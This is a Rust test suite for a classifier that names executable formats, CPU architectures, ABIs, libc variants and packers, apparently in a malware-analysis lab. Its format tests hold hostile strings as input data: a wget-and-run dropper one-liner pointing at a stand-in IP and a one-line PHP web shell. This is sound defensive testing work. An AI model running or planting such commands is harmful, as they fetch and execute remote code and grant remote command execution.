//! Classification of headers built here, of the committed samples, and of programs of this machine.
#![allow(clippy::unwrap_used, reason = "tests")]
use otori_event::{Classification, Evidenced};
use otori_lab::classify;
use std::path::Path;

/// An ELF header with one PT_LOAD over the whole file and more program headers behind it.
struct Builder {
    class: u8,
    data: u8,
    os_abi: u8,
    machine: u16,
    kind: u16,
    flags: u32,
    segments: Vec<(u32, Vec<u8>)>,
}

impl Builder {
    fn new(class: u8, data: u8, machine: u16, flags: u32) -> Builder {
        Builder { class, data, os_abi: 0, machine, kind: 2, flags, segments: vec![] }
    }
    fn segment(mut self, kind: u32, body: &[u8]) -> Builder {
        self.segments.push((kind, body.to_vec()));
        self
    }
    fn half(&self, out: &mut Vec<u8>, value: u16) {
        out.extend(if self.data == 2 { value.to_be_bytes() } else { value.to_le_bytes() });
    }
    fn word(&self, out: &mut Vec<u8>, value: u32) {
        out.extend(if self.data == 2 { value.to_be_bytes() } else { value.to_le_bytes() });
    }
    fn long(&self, out: &mut Vec<u8>, value: u64) {
        if self.class == 1 {
            return self.word(out, value as u32);
        }
        out.extend(if self.data == 2 { value.to_be_bytes() } else { value.to_le_bytes() });
    }
    fn header(&self, out: &mut Vec<u8>, at: (u32, u64, u64)) {
        let (kind, offset, size) = at;
        self.word(out, kind);
        if self.class == 2 {
            self.word(out, 5);
        }
        [offset, 0x40_0000 + offset, 0, size, size].into_iter().for_each(|value| self.long(out, value));
        if self.class == 1 {
            self.word(out, 5);
        }
        self.long(out, 0x1000);
    }
    fn build(&self) -> Vec<u8> {
        let (head, entry) = if self.class == 2 { (64u64, 56u64) } else { (52, 32) };
        let count = self.segments.len() as u64 + 1;
        let mut bodies = head + entry * count;
        let total = bodies + self.segments.iter().map(|segment| segment.1.len() as u64).sum::<u64>();
        let mut out =
            vec![0x7f, b'E', b'L', b'F', self.class, self.data, 1, self.os_abi, 0, 0, 0, 0, 0, 0, 0, 0];
        self.half(&mut out, self.kind);
        self.half(&mut out, self.machine);
        self.word(&mut out, 1);
        [0x40_0100, head, 0].into_iter().for_each(|value| self.long(&mut out, value));
        self.word(&mut out, self.flags);
        for value in [head as u16, entry as u16, count as u16, 0, 0, 0] {
            self.half(&mut out, value);
        }
        self.header(&mut out, (1, 0, total));
        for (kind, body) in &self.segments {
            self.header(&mut out, (*kind, bodies, body.len() as u64));
            bodies += body.len() as u64;
        }
        self.segments.iter().for_each(|segment| out.extend(&segment.1));
        out
    }
}

fn word(field: &Option<Evidenced>) -> &str {
    field.as_ref().map_or("-", |field| field.value.as_str())
}

/// `format os cpu level endianness bits abi libc linking packing symbols runnable`
fn line(class: &Classification) -> String {
    let fields = [
        &class.format,
        &class.os,
        &class.cpu,
        &class.level,
        &class.endianness,
        &class.bits,
        &class.abi,
        &class.libc,
        &class.linking,
        &class.packing,
        &class.symbols,
    ];
    let mut words: Vec<&str> = fields.into_iter().map(word).collect();
    words.push(if class.runnable { "runnable" } else { "no" });
    words.join(" ")
}

fn check(bytes: &[u8], expect: &str) -> Classification {
    let class = classify(bytes, "sample");
    assert_eq!(line(&class), expect, "{:?}", class.notes);
    class
}

#[test]
fn machines_levels_and_abis_come_from_the_header() {
    let static_none = "none static none stripped";
    let mips = Builder::new(1, 1, 8, 0x7000_1007).build();
    check(&mips, &format!("elf linux mips mips32r2 little 32 o32 {static_none} runnable"));
    let abiflags = |float| [0, 0, 32, 2, 1, 2, 0, float, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    let soft = Builder::new(1, 2, 8, 0x5000_1007).segment(0x7000_0003, &abiflags(3)).build();
    let class = check(&soft, &format!("elf linux mips mips32r2 big 32 o32-soft {static_none} runnable"));
    assert!(class.level.unwrap().evidence.contains("says mips32"));
    let n32 = Builder::new(1, 2, 8, 0x8000_0020).build();
    check(&n32, &format!("elf linux mips mips64r2 big 32 n32 {static_none} no"));
    let arm = Builder::new(1, 1, 40, 0x0500_0400).build();
    check(&arm, &format!("elf linux arm armv4 little 32 eabi5-hard {static_none} runnable"));
    let be8 = Builder::new(1, 2, 40, 0x0580_0200).build();
    check(&be8, &format!("elf linux arm armv4 big 32 eabi5-soft-be8 {static_none} runnable"));
    let movw = 0xe300_1234u32.to_le_bytes().repeat(8);
    let v7 = Builder::new(1, 1, 40, 0x0500_0200).segment(1, &movw).build();
    check(&v7, &format!("elf linux arm armv7-a little 32 eabi5-soft {static_none} runnable"));
    check(
        &Builder::new(2, 1, 183, 0).build(),
        &format!("elf linux aarch64 armv8-a little 64 - {static_none} runnable"),
    );
    check(
        &Builder::new(2, 1, 62, 0).build(),
        &format!("elf linux x86-64 - little 64 sysv {static_none} runnable"),
    );
    check(&Builder::new(1, 1, 62, 0).build(), &format!("elf linux x86-64 - little 32 x32 {static_none} no"));
    check(&Builder::new(1, 1, 42, 9).build(), &format!("elf linux sh sh4 little 32 - {static_none} no"));
    check(&Builder::new(1, 2, 20, 0).build(), &format!("elf linux ppc ppc32 big 32 sysv {static_none} no"));
    check(&Builder::new(1, 2, 4, 0).build(), &format!("elf linux m68k 68020 big 32 - {static_none} no"));
    check(
        &Builder::new(2, 1, 243, 5).build(),
        &format!("elf linux riscv rv64imafdc little 64 lp64d {static_none} no"),
    );
    check(
        &Builder::new(2, 1, 258, 3).build(),
        &format!("elf linux loongarch - little 64 lp64d {static_none} no"),
    );
    check(&Builder::new(1, 2, 999, 0).build(), &format!("elf linux - - big 32 - {static_none} no"));
}

#[test]
fn system_libc_and_linking_come_from_interpreter_and_notes() {
    let with_interpreter = |path: &[u8]| Builder::new(1, 1, 8, 0x7000_1007).segment(3, path).build();
    for (path, os, libc) in [
        (&b"/lib/ld-uClibc.so.0\0"[..], "linux", "uclibc"),
        (b"/lib/ld-musl-mipsel-sf.so.1\0", "linux", "musl"),
        (b"/lib/ld.so.1\0", "linux", "glibc"),
        (b"/system/bin/linker\0", "android", "bionic"),
    ] {
        let class = classify(&with_interpreter(path), "x");
        assert_eq!((word(&class.os), word(&class.libc), word(&class.linking)), (os, libc, "dynamic"));
    }
    let note = b"\x08\0\0\0\x04\0\0\0\x01\0\0\0FreeBSD\0\x01\x02\x03\x04";
    let class = classify(&Builder::new(2, 1, 62, 0).segment(4, note).build(), "x");
    assert_eq!((word(&class.os), class.runnable), ("freebsd", false));
    let uclibc = Builder::new(1, 1, 8, 0x7000_1007).segment(1, b"\0__uClibc_main\0").build();
    assert_eq!(word(&classify(&uclibc, "x").libc), "uclibc");
}

#[test]
fn truncated_and_damaged_files_are_named_and_not_run() {
    let mut bytes = Builder::new(1, 1, 8, 0x7000_1007).segment(1, &[1; 5000]).build();
    let whole = bytes.len();
    bytes.truncate(1204);
    let class = classify(&bytes, "x");
    let expect = format!("truncated: 1,204 of {},{:03} bytes", whole / 1000, whole % 1000);
    assert!(!class.runnable && class.notes.contains(&expect), "{:?}", class.notes);
    let class = classify(b"\x7fELF\x01\x01", "x");
    assert!(!class.runnable && class.notes[0].starts_with("truncated"), "{class:?}");
    let mut lies = Builder::new(1, 1, 8, 0x7000_1007).build();
    lies[32..36].copy_from_slice(&0xffff_0000u32.to_le_bytes());
    lies[48] = 9;
    let class = classify(&lies, "x");
    assert!(
        class.runnable && class.notes.iter().any(|note| note.starts_with("section table lies")),
        "{class:?}"
    );
    let mut order = Builder::new(1, 2, 8, 0x7000_1007).build();
    order[5] = 7;
    assert_eq!(word(&classify(&order, "x").cpu), "mips");
    let class = classify(&Builder::new(1, 1, 40, 0).build(), "/tmp/bot.mips");
    assert!(class.notes.iter().any(|note| note == "the name says mips, the header says arm"));
}

#[test]
fn packers_are_recognised_whole_and_damaged() {
    let upx = |magic: &[u8; 4], sizes: u32, trailer: &[u8]| {
        let mut file = Builder::new(1, 1, 8, 0x7000_1007).build();
        file.extend(0u32.to_le_bytes());
        file.extend(magic);
        file.extend([0; 8]);
        [sizes, sizes].iter().for_each(|size| file.extend(size.to_le_bytes()));
        file.extend(b"$Info: This file is packed with the UPX executable packer");
        file.extend(trailer);
        word(&classify(&file, "x").packing).to_owned()
    };
    assert_eq!(upx(b"UPX!", 4096, b"UPX!\0\0\0\0"), "upx");
    assert_eq!(upx(b"YTS\x99", 4096, b"UPX!\0\0\0\0"), "upx-modified");
    assert_eq!(upx(b"UPX!", 0, b"UPX!\0\0\0\0"), "upx-modified");
    let mut state = 1u32;
    let noise: Vec<u8> = (0..8192)
        .map(|_| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (state >> 24) as u8
        })
        .collect();
    let packed = Builder::new(1, 1, 8, 0x7000_1007).segment(1, &noise).build();
    assert_eq!(word(&classify(&packed, "x").packing), "upx-modified");
}

#[test]
fn other_formats_have_names() {
    for (bytes, format) in [
        (&b""[..], "empty"),
        (b"#!/bin/sh\ncd /tmp", "shell-script"),
        (b"#!/bin/busybox ash\n", "shell-script"),
        (b"#!/usr/bin/env python3\nimport os", "python"),
        (b"#! /usr/bin/perl -w\n", "perl"),
        (b"cd /tmp || cd /var/run; wget http://192.0.2.1/b; chmod 777 b; ./b", "shell-script"),
        (b"<?php system($_GET['c']); ?>", "php"),
        (b"import socket\nimport os\ndef main():\n  pass\n", "python"),
        (b"<!DOCTYPE HTML>\n<html><head><title>404 Not Found</title>", "html"),
        (b"hello there\n", "text"),
        (b"\x1f\x8b\x08\0", "gzip"),
        (b"PK\x03\x04....classes.dexAndroidManifest.xml", "apk"),
        (b"\0\x01\x02\x03", "data"),
        (b"\xfe\xed\xfa\xce\0\0\0\x12", "mach-o"),
        (b"\xcf\xfa\xed\xfe\x0c\0\0\x01", "mach-o"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34", "java-class"),
        (b"hsqs\x01\0", "squashfs"),
        (b"MZ", "dos"),
    ] {
        assert_eq!(word(&classify(bytes, "x").format), format, "{}", bytes.escape_ascii());
    }
    let mut pe = vec![0; 0x100];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x86].copy_from_slice(b"PE\0\0\x64\x86");
    assert_eq!(word(&classify(&pe, "x").cpu), "x86-64");
    let page = classify(b"<html><head><title>404 Not Found</title>", "bot.mips");
    assert!(page.notes[0].contains("error page"));
    let script = classify(b"#!/bin/sh\nwget http://192.0.2.1/a; wget http://192.0.2.1/b\n", "x.sh");
    assert_eq!(script.urls, ["http://192.0.2.1/a", "http://192.0.2.1/b"]);
}

#[test]
fn the_committed_samples_are_named() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../vectors/samples");
    for name in ["beacon.mipsel", "lookup.mipsel"] {
        let bytes = std::fs::read(folder.join(name)).unwrap();
        check(&bytes, "elf linux mips mips32r2 little 32 o32-hard-xx none static none stripped runnable");
    }
}

/// What this machine happens to have; says which it skipped.
#[test]
fn programs_of_this_machine_are_named() {
    let mut seen = 0;
    for (path, expect) in [
        ("/usr/mipsel-linux-gnu/lib/libc.so.6", ("mips", "little", "glibc")),
        ("/usr/mips-linux-gnu/lib/libc.so.6", ("mips", "big", "glibc")),
    ] {
        let Ok(bytes) = std::fs::read(path) else {
            eprintln!("skipped: no {path}");
            continue;
        };
        let class = classify(&bytes, path);
        assert_eq!((word(&class.cpu), word(&class.endianness), word(&class.libc)), expect, "{class:#?}");
        seen += 1;
    }
    eprintln!("{seen} programs of this machine classified");
    let own = std::fs::read(std::env::current_exe().unwrap()).unwrap();
    let class = classify(&own, "test");
    let has_engine = cfg!(any(target_arch = "x86_64", target_arch = "aarch64"));
    let seen = (word(&class.format), word(&class.os), class.runnable);
    assert_eq!(seen, ("elf", "linux", has_engine), "{class:#?}");
}

#[test]
fn damaged_bytes_never_panic() {
    let mut state = 0x1234_5678_9abc_def1u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let attributes = b"A\x20\0\0\0aeabi\0\x01\x16\0\0\0\x05ARM7\0\x06\x0a\x1c\x01";
    let bases = [
        Builder::new(1, 1, 8, 0x7000_1007)
            .segment(0x7000_0003, &[0; 24])
            .segment(3, b"/lib/ld.so.1\0")
            .build(),
        Builder::new(1, 2, 40, 0x0500_0000).segment(4, &[4; 64]).segment(1, attributes).build(),
        Builder::new(2, 1, 62, 0).segment(4, b"\x04\0\0\0\xff\xff\xff\xff\x01\0\0\0GNU\0").build(),
        b"#!/bin/sh\nwget http://192.0.2.1/x".to_vec(),
    ];
    for round in 0..20_000 {
        let mut bytes = bases[round % bases.len()].clone();
        for _ in 0..next() % 12 {
            let at = next() as usize % bytes.len();
            bytes[at] = [0, 1, 0x7f, 0x80, 0xff, next() as u8][next() as usize % 6];
        }
        bytes.truncate(next() as usize % (bytes.len() + 1));
        let class = classify(&bytes, "x");
        assert!(class.notes.len() <= 32 && class.urls.len() <= 64);
    }
    for _ in 0..2_000 {
        let bytes: Vec<u8> = (0..next() % 300).map(|_| next() as u8).collect();
        classify(&bytes, "x");
    }
}
